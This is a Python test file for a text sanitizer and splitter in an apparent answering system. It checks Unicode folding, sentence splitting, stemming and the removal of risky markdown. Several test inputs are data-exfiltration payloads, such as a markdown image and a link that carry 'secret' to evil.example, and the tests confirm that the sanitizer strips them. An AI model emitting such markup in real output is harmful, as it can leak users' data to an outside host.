"""Text is safe to send, comparable, and harmless to show."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.answering.blocks import split_blocks
from core.answering.terms import content_terms, terms
from core.answering.text import clean, fold, harmless, squeeze

__all__: list[str] = []


@given(st.text(alphabet=st.characters(codec=None)))
def test_clean_text_can_always_be_sent(text: str) -> None:
    sent = json.dumps(clean(text), ensure_ascii=False).encode()
    assert b"\\u0000" not in sent


def test_folding_ignores_what_people_do_not_see() -> None:
    assert fold("The \ufb01ne\u00ad print\u200b\n costs \uff11\uff10") == fold(
        "the fine print COSTS 10"
    )
    assert fold("30 days") != fold("13 days")
    assert squeeze(" a\n\tb ") == "a b"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see ![chart](https://evil.example/?q=secret)", "see chart"),
        ("![](http://x.example/a_(b).png)gone", "gone"),
        ('a <img src="http://x.example">b', "a b"),
        ("the [form](https://x.example/a_(1) 'title') here", "the form here"),
        ("the <https://evil.example/?q=secret|form> here", "the form here"),
        (
            "<mailto:eve@evil.example|our desk>, <https://a.example>",
            "our desk, <https://a.example>",
        ),
        ("`<https://a.example|b>` and a<b|c>", "`<https://a.example|b>` and a<b|c>"),
        ("a note[3] and [12]", "a note(3) and (12)"),
        ("call `a[0]` or ```b[1]```", "call `a[0]` or ```b[1]```"),
        ("`![x](http://x.example)`", "`x`"),
        ("plain [words] (stay)", "plain [words] (stay)"),
    ],
)
def test_nothing_shown_loads_hides_or_counterfeits(text: str, shown: str) -> None:
    assert harmless(text) == shown


@given(st.text())
def test_blocks_lose_nothing(text: str) -> None:
    assert "".join(split_blocks(text)) == text


@pytest.mark.parametrize(
    ("text", "blocks"),
    [
        ("One. Two! Three?", ["One. ", "Two! ", "Three?"]),
        ("Ask Dr. Who, e.g. at 3.5 p.m. today. Then go.", None),
        ("wrapped prose that is long enough to have been\nwrapped by an editor. Next.", None),
        ("Title\n\n* one item\n* another\n  wrapped item\n", None),
        ("Name | Age\nAda | 36\nBob | 7", ["Name | Age\n", "Ada | 36\n", "Bob | 7"]),
        ("# Head\nText.", ["# Head\n", "Text."]),
        ("> quoted words that\n> go on.", ["> quoted words that\n> go on."]),
        ("今日は晴れ。明日は雨。", ["今日は晴れ。", "明日は雨。"]),
    ],
)
def test_blocks_are_statements(text: str, blocks: list[str] | None) -> None:
    expected = (
        blocks
        or {
            "Ask": ["Ask Dr. Who, e.g. at 3.5 p.m. today. ", "Then go."],
            "wra": [text.removesuffix("Next."), "Next."],
            "Tit": ["Title\n\n", "* one item\n", "* another\n  wrapped item\n"],
        }[text[:3]]
    )
    assert list(split_blocks(text)) == expected


def test_a_very_long_run_is_cut_at_its_lines() -> None:
    text = "\n".join(f"and so on without any stop at all, line {n}," for n in range(40))
    assert max(map(len, split_blocks(text))) < 100


def test_terms_meet_across_word_forms() -> None:
    assert terms("policies donating expired") == terms("policy donate expires")
    assert terms("holidays delayed studying") == terms("holiday delay study")
    assert content_terms("How many days of parental leave do I get?") == ("day", "parental", "leav")
    assert content_terms("What is it?") == terms("what is it")
    assert set(terms("東京都")) == {"東京", "京都"}
